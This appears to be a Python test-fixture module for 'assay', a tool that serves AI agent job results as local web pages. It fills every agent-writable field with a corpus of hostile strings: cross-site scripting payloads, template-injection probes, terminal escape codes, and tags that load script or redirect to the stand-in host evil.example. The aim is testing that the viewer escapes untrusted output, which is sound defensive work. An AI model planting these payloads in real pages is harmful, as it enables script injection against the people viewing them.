"""Folders that tests look at through pages, and a job in which everything that an agent can write is hostile."""

import contextlib
import io
import json
import shutil
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path

from assay.adapters.jobs.folder_pages import FolderPages
from assay.adapters.service.import_runs import Importing
from assay.api.service import Service
from assay.cli.main import main
from assay.cli.output.read_jobs import read_results
from assay.cli.view import source_of
from assay.web.local_server import LocalServer
from tests.builders import REPO, edit_json

SORTING = REPO / "examples" / "jobs" / "sorting"
TAMPERED = REPO / "examples" / "jobs" / "tampered"
GUESSES = REPO / "examples" / "guesses"
COMPARISON = REPO / "examples" / "comparison"
SLUG = REPO / "examples" / "coding" / "slug"
EVIL = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">\u202e\x1b[31m"
CORPUS = (
    EVIL,
    "\"><svg onload=document.title='owned'>",
    "'><iframe srcdoc=\"<script>parent.document.title='owned'</script>\">",
    "javascript:document.title='owned'",
    "</pre></details><a href=\"javascript:document.title='owned'\" autofocus onfocus=document.title='owned'>x</a>",
    "{{ 7*7 }}{% raw %}",
    "</textarea></title></style><script src=//evil.example/x.js></script>",
    "<form action=//evil.example><button hx-get=//evil.example hx-trigger=load>x</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "\x00\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\ud800\uffff",
)


def viewed_at(*paths: Path) -> FolderPages:
    """What ``assay view`` reads."""
    with contextlib.redirect_stderr(io.StringIO()):
        return source_of([str(path) for path in paths])


@contextmanager
def serving_folder(source: FolderPages) -> Iterator[LocalServer]:
    """What ``assay view`` serves."""
    found = LocalServer(lambda: source, 0, source.title)
    thread = threading.Thread(target=found.serve)
    thread.start()
    try:
        yield found
    finally:
        found.stop()
        thread.join()


def keep_scored(folder: Path, agents: Sequence[str] = ("honest", "shallow", "cheating")) -> Path:
    """Coding runs of one scenario, two of which a recorded judge looked at."""
    for agent in agents:
        told = [
            "score",
            str(SLUG / agent),
            "--scenario",
            str(SLUG / "scenario.yaml"),
            "--baseline",
            str(SLUG / "project"),
        ]
        judge = ["--judge", "--judge-model", "example-judge", "--judge-replay", str(SLUG / "judge")]
        logs = ["--agent-logs", str(SLUG / "logs" / agent), *judge] if agent != "cheating" else []
        with contextlib.redirect_stdout(io.StringIO()):
            main([*told, *logs, "--keep", str(folder / agent)])
    return folder


def import_all(service: Service, organisation: str, jobs: Sequence[Path], kept: Path | None = None) -> None:
    """Bring jobs and kept runs into a store."""
    importing = Importing(service.imports, service.blobs, organisation)
    for path in jobs:
        with contextlib.redirect_stderr(io.StringIO()):
            importing.job(str(path), read_results(str(path)), None)
    if kept is not None:
        importing.reports(str(kept), None)


def make_hostile(folder: Path) -> Path:
    """A job in which everything that an agent can write is hostile."""
    job = folder / "job"
    shutil.copytree(GUESSES, job)
    [trial] = job.glob("capital__*")
    agent = trial / "agent"
    agent.mkdir(exist_ok=True)
    for old in agent.iterdir():
        old.unlink()
    lines = [line for evil in CORPUS for line in _messages(evil)]
    (agent / "trajectory.jsonl").write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    (agent / "final_response.md").write_text("\n".join(CORPUS), errors="replace")
    (trial / "verifier" / "test-stdout.txt").write_text("\n".join(CORPUS), errors="replace")

    def blame(result: dict[str, object]) -> None:
        result["exception_info"] = {
            "exception_type": EVIL,
            "exception_message": "".join(CORPUS[:-1]),
            "exception_traceback": "",
            "occurred_at": "2026-01-01T00:00:00Z",
        }

    edit_json(trial / "result.json", blame)
    return job


def _messages(evil: str) -> list[dict[str, object]]:
    call = {"id": "1", "type": "function", "function": {"name": evil, "arguments": evil}}
    return [
        {"role": "user", "content": evil, "timestamp": evil},
        {"role": "assistant", "content": evil, "reasoning_content": evil, "tool_calls": [call], "model": evil},
        {"role": "tool", "tool_call_id": "1", "content": evil},
    ]
